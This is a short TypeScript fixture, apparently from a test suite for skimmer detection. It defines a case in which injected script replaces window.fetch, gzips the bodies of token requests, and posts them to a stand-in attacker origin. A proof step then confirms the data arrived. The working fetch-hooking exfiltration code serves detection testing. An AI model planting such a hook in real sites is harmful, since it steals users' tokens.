import { gunzipSync } from 'node:zlib';
import { holds, js, skimmer } from '../behaviour.ts';
import { at } from '../site/arrivals.ts';

export default skimmer({
  id: 'hooked-fetch-gzip',
  why: "Replaces fetch and copies the provider's call, compressed: it never looks at a field.",
  covers: ['encoding: gzip', 'sending: fetch'],
  base: 'direct',
  install: (site) =>
    site.inline(js`(function () {
  var real = window.fetch;
  window.fetch = function (to, init) {
    if (/tokens/.test(String(to)) && init && init.body)
      new Response(new Blob([init.body]).stream().pipeThrough(new CompressionStream('gzip'))).arrayBuffer().then(function (packed) {
        real('${site.origins.evil}/gz', { method: 'POST', mode: 'no-cors', body: packed });
      });
    return real.apply(this, arguments);
  };
})();`),
  proof: holds((arrived) =>
    at(arrived, 'evil', '/gz')
      .filter(({ body }) => body[0] === 0x1f)
      .map(({ body }) => gunzipSync(body).toString()),
  ),
});
